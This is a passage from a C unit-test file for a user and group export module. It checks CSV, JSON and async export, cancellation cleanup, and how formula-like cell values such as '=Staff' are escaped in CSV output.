      g_assert_cmpuint (names->len, ==, 1);
      g_unlink (path);
    }
}

static void
test_unwritable_folder (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
  g_autoptr(GFile) file = g_file_new_for_path ("/proc/muster-export.csv");
  g_autoptr(GError) error = NULL;

  g_assert_false (muster_export_write_users (export, G_LIST_MODEL (f->users), file, NULL, &error));
  g_assert_true (error->domain == MUSTER_EXPORT_ERROR);
  g_assert_cmpstr (error->message, !=, "");
}

static void
test_async (Fixture       *f,
            gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_JSON);
  g_autofree char *path = g_build_filename (f->dir, "async.json", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GAsyncResult) cancelled_result = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(JsonParser) parser = json_parser_new ();
  guint n_users = g_list_model_get_n_items (G_LIST_MODEL (f->users));

  muster_export_write_users_async (export, G_LIST_MODEL (f->users), file, NULL, core_test_store_result_cb, &result);
  /* The export works on the list as it was when asked. */
  g_list_store_remove_all (f->users);
  core_test_wait (&result);
  g_assert_true (muster_export_write_finish (export, result, &error));
  g_assert_no_error (error);
  json_parser_load_from_file (parser, path, &error);
  g_assert_no_error (error);
  g_assert_cmpint (json_object_get_int_member (json_node_get_object (json_parser_get_root (parser)), "count"), ==,
                   n_users);

  /* Cancelled: the caller can tell, and nothing is left behind. */
  g_unlink (path);
  g_cancellable_cancel (cancellable);
  muster_export_write_users_async (export, G_LIST_MODEL (f->users), file, cancellable, core_test_store_result_cb,
                                   &cancelled_result);
  core_test_wait (&cancelled_result);
  g_assert_false (muster_export_write_finish (export, cancelled_result, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  list_dir (f->dir, names);
  g_assert_cmpuint (names->len, ==, 0);
}

static void
test_groups (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(GListStore) groups = g_list_store_new (MUSTER_TYPE_GROUP);
  g_autoptr(MusterExport) csv = make_export (MUSTER_EXPORT_FORMAT_CSV);
  g_autoptr(MusterExport) json = make_export (MUSTER_EXPORT_FORMAT_JSON);
  g_autoptr(GOutputStream) csv_out = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) json_out = g_memory_output_stream_new_resizable ();
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  const char *json_text =
    "[{\"id\":\"g1\",\"displayName\":\"=Staff\",\"mailEnabled\":false,\"securityEnabled\":true,\"groupTypes\":[]},"
    " {\"id\":\"g2\",\"displayName\":\"All, \\\"Company\\\"\",\"mail\":\"all@contoso.example\",\"mailEnabled\":true,"
    "  \"securityEnabled\":false,\"groupTypes\":[\"Unified\"]}]";
  JsonArray *array, *exported;
  GPtrArray *row;

  json_parser_load_from_data (parser, json_text, -1, &error);
  g_assert_no_error (error);
  array = json_node_get_array (json_parser_get_root (parser));
  for (guint i = 0; i < json_array_get_length (array); i++)
    {
      g_autoptr(MusterGroup) group = muster_group_new_from_json (json_array_get_object_element (array, i));
      _muster_group_set_member_counts (group, 3 + i, 10 + i);
      g_list_store_append (groups, group);
    }

  g_assert_true (muster_export_write_groups_to_stream (csv, G_LIST_MODEL (groups), csv_out, NULL, &error));
  g_assert_no_error (error);
  records = parse_csv (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (csv_out)),
                       g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (csv_out)));
  g_assert_cmpuint (records->len, ==, 3);
  row = records->pdata[1];
  g_assert_cmpstr (row->pdata[0], ==, "'=Staff");
  g_assert_cmpstr (row->pdata[1], ==, muster_group_kind_get_title (MUSTER_GROUP_KIND_SECURITY));
  g_assert_cmpstr (row->pdata[5], ==, "3");
  g_assert_cmpstr (row->pdata[6], ==, "10");
  row = records->pdata[2];
  g_assert_cmpstr (row->pdata[0], ==, "All, \"Company\"");
  g_assert_cmpstr (row->pdata[1], ==, muster_group_kind_get_title (MUSTER_GROUP_KIND_MICROSOFT365));

  g_assert_true (muster_export_write_groups_to_stream (json, G_LIST_MODEL (groups), json_out, NULL, &error));
  g_assert_true (g_output_stream_close (json_out, NULL, NULL));
  json_parser_load_from_data (parser, g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (json_out)),
                              g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (json_out)), &error);
  g_assert_no_error (error);
  exported = json_object_get_array_member (json_node_get_object (json_parser_get_root (parser)), "groups");
  g_assert_cmpuint (json_array_get_length (exported), ==, 2);
  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (exported, 0), "displayName"), ==,
                   "=Staff");
  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (exported, 1), "kind"), ==,
                   "microsoft365");
  g_assert_cmpint (json_object_get_int_member (json_array_get_object_element (exported, 1), "transitiveMemberCount"),
                   ==, 11);
}

/* The filter in the file is muster_user_filter_describe()'s, for a snapshot read from cache.db. */
static void
test_context (Fixture       *f,
              gconstpointer  data)
{
  g_autofree char *db = g_build_filename (f->dir, "cache.db", NULL);
  g_autoptr(MusterSnapshotStore) store = NULL;
  g_autoptr(MusterSnapshotWriter) writer = NULL;
  g_autoptr(MusterSnapshot) snapshot = NULL;
  g_autoptr(MusterUserFilter) filter = muster_user_filter_new ();
  g_autoptr(MusterExport) export = muster_export_new (MUSTER_EXPORT_FORMAT_JSON);
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *described = NULL;
  JsonObject *root;
  gint64 id;

  store = muster_snapshot_store_open (db, &error);
  g_assert_no_error (error);
  writer = muster_snapshot_store_begin (store, "work", "11111111-2222-3333-4444-555555555555", &error);
  g_assert_no_error (error);
  for (guint i = 0; i < 10; i++)
    {
      g_autoptr(MusterUser) user = make_user (i);
      g_assert_true (muster_snapshot_writer_put_user (writer, user, &error));
    }
  id = muster_snapshot_writer_commit (writer, &error);
  g_assert_no_error (error);
  snapshot = muster_snapshot_store_load (store, id, &error);
  g_assert_no_error (error);

  muster_user_filter_set_exclude_guests (filter, TRUE);
  muster_user_filter_set_email_method (filter, MUSTER_EMAIL_METHOD_UPN);
  described = muster_user_filter_describe (filter, snapshot);
  muster_export_set_context (export, snapshot, filter);

  g_assert_true (muster_export_write_users_to_stream (export, muster_snapshot_get_users (snapshot), out, NULL, &error));
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  json_parser_load_from_data (parser, g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (out)),
                              g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out)), &error);
  g_assert_no_error (error);
  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpstr (json_object_get_string_member (root, "filter"), ==, described);
  g_assert_cmpstr (json_object_get_string_member (root, "tenant"), ==, "11111111-2222-3333-4444-555555555555");
  g_assert_cmpint (json_object_get_int_member (json_object_get_object_member (root, "snapshot"), "id"), ==, id);
  /* The filter's email method is the export's. */
  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (
                     json_object_get_array_member (root, "users"), 0), "email"), ==,
                   json_object_get_string_member (json_array_get_object_element (
                     json_object_get_array_member (root, "users"), 0), "userPrincipalName"));
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func, n) \
  g_test_add (path, Fixture, GUINT_TO_POINTER (n), fixture_set_up, func, fixture_tear_down)
  ADD ("/export/csv/round-trip", test_csv_round_trip, 0);
  ADD ("/export/csv/bom", test_csv_bom, 0);
  ADD ("/export/csv/values", test_csv_values, 0);
  ADD ("/export/csv/filter-row", test_csv_filter_row, 0);
  ADD ("/export/csv/other-separators", test_csv_other_separators, 0);
  ADD ("/export/file-modes", test_file_modes, 0);
  ADD ("/export/json/round-trip", test_json_round_trip, 0);
  ADD ("/export/xlsx/sheet", test_xlsx, 0);
  ADD ("/export/groups", test_groups, 0);
  ADD ("/export/context", test_context, 0);
  ADD ("/export/streamed", test_streamed, 20000);
  ADD ("/export/full/stream", test_stream_full, 5000);
  ADD ("/export/full/file", test_file_full, 5000);
  ADD ("/export/unwritable-folder", test_unwritable_folder, 10);
  ADD ("/export/async", test_async, 500);
#undef ADD

  return g_test_run ();
}
